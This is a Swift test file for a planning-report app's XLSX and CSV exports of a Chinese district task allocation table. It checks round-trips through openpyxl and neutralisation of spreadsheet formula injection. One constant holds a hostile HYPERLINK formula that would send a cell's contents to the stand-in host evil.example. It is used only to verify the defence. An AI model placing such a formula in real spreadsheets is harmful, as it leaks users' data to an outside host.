import Documents
import Foundation
import Testing

@testable import PlanStore
@testable import ReportExtraction

@Suite("Exports")
struct ExportTests {
    static let reader = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .appendingPathComponent("Support/read_xlsx.py").path

    struct Workbook: Decodable {
        var sheets: [String]
        var freeze: String?
        var widths: [String: Double]
        var header_bold: Bool
        var rows: [[Value?]]
        var formulas: Int
    }

    enum Value: Decodable, Equatable {
        case text(String), number(Double)
        init(from decoder: any Decoder) throws {
            let container = try decoder.singleValueContainer()
            if let number = try? container.decode(Double.self) {
                self = .number(number)
            } else {
                self = .text(try container.decode(String.self))
            }
        }
    }

    @Test("the allocation table as XLSX reads back cell by cell in openpyxl", arguments: TestEngine.available)
    func xlsxRoundTrip(_ engine: TestEngine) async throws {
        // setup
        let (test, tasks) = try await ProgressTests.assigned(engine)
        _ = try await test.store.setDeadline(taskID: tasks[0].id, deadline: "2022-06-30", change: Change(actor: "督查室"))
        _ = try await test.store.fileProgress(
            ProgressInput(
                taskID: tasks[2].id, department: "区住建局", reportedOn: "2022-06-20", narrative: "已开工41个", value: 41, actor: "a"))
        let url = FileManager.default.temporaryDirectory.appendingPathComponent("分工方案-\(UUID().uuidString).xlsx")
        // act
        let table = try await test.store.allocationTable(jurisdiction: "白水区", planYear: 2022, asOf: ISODate("2022-07-01")!)
        try table.writeXLSX(to: url)
        await test.finish()
        let result = try Self.run(["python3", Self.reader, url.path])
        try #require(result.status == 0, "openpyxl could not read the workbook")
        let workbook = try JSONDecoder().decode(Workbook.self, from: Data(result.output.utf8))
        // check
        #expect(workbook.sheets == ["分工方案"])
        #expect(workbook.freeze == "A2")
        #expect(workbook.header_bold)
        #expect(workbook.widths["B"] == 60)
        #expect(workbook.rows.count == table.rows.count + 1)
        #expect(workbook.rows[0] == AllocationTable.header.map { .text($0) })
        for (written, read) in zip(table.rows, workbook.rows.dropFirst()) {
            let expected: [Value?] = written.map { cell in
                switch cell {
                case .number(let value): return .number(value)
                case .text(let text): return text.isEmpty ? nil : .text(text)
                }
            }
            #expect(read == expected)
        }
        let houses = try #require(table.rows.first { $0[1] == .text("实施82个老旧小区提升改造工程") })
        #expect(houses[2] == .text("区住建局"))
        #expect(houses[3] == .text("区城管局"))
        #expect(houses[5] == .text("82个"))
        #expect(houses[6] == .text("41个，50%：已开工41个（2022年6月20日）"))
        #expect(houses[7] == .text("● 绿 正常推进"))
        #expect(table.rows[0][4] == .text("2022年6月30日"))
    }

    @Test("the CSV has a byte-order mark, CRLF lines and quotes where a field needs them")
    func csv() {
        let table = AllocationTable(
            title: "t",
            rows: [
                [
                    .number(1), .text("新建\"口袋公园\"60处, 绿道40公里"), .text("区园林局"), .text(""), .text("2022年12月31日"), .text("60处"),
                    .text(""), .text("○"),
                ]
            ])
        let csv = table.csv()
        #expect(csv.hasPrefix("\u{FEFF}序号,工作任务,牵头单位"))
        #expect(csv.contains("\r\n1,\"新建\"\"口袋公园\"\"60处, 绿道40公里\",区园林局,,"))
        #expect(csv.hasSuffix("\r\n"))
    }

    static let hostile = #"=HYPERLINK("http://evil.example/?"&A2,"详情")"#

    @Test("a text a spreadsheet would run as a formula gets a ' in front in every CSV; numbers stay numbers")
    func csvFormulaInjection() {
        for start in ["=", "+", "-", "@", "\t", "\r"] {
            #expect(CSVDocument.neutralized(start + "1+1") == "'" + start + "1+1", "\(start)")
        }
        #expect(CSVDocument.neutralized("-3.5") == "-3.5")
        #expect(CSVDocument.neutralized("+12") == "+12")
        #expect(CSVDocument.neutralized("已开工") == "已开工")
        let table = AllocationTable(
            title: "t",
            rows: [[.number(-1), .text(Self.hostile), .text("@区园林局"), .text(""), .text(""), .text(""), .text(""), .text("")]])
        let csv = table.csv()
        #expect(csv.contains(#"-1,"'=HYPERLINK(""http://evil.example/?""&A2,""详情"")",'@区园林局"#))
        #expect(CSVDocument.row(["=1+1", "x"]) == "'=1+1,x\r\n")
    }

    @Test("a cell written like a formula stays text in the XLSX, as openpyxl reads it", arguments: TestEngine.available)
    func xlsxNeverHoldsFormulas(_ engine: TestEngine) async throws {
        let test = try await TestStore.make(engine)
        let url = FileManager.default.temporaryDirectory.appendingPathComponent("分工方案-\(UUID().uuidString).xlsx")
        let table = AllocationTable(
            title: "t",
            rows: [[.number(-1), .text(Self.hostile), .text("@区园林局"), .text("+1"), .text("-2"), .text(""), .text(""), .text("")]])
        try table.writeXLSX(to: url)
        await test.finish()
        let result = try Self.run(["python3", Self.reader, url.path])
        try #require(result.status == 0, "openpyxl could not read the workbook")
        let workbook = try JSONDecoder().decode(Workbook.self, from: Data(result.output.utf8))
        #expect(workbook.formulas == 0)
        #expect(workbook.rows[1] == [.number(-1), .text(Self.hostile), .text("@区园林局"), .text("+1"), .text("-2"), nil, nil, nil])
    }

    static func run(_ arguments: [String]) throws -> (status: Int32, output: String) {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = arguments
        let pipe = Pipe()
        process.standardOutput = pipe
        try process.run()
        let data = pipe.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        return (process.terminationStatus, String(decoding: data, as: UTF8.self))
    }
}
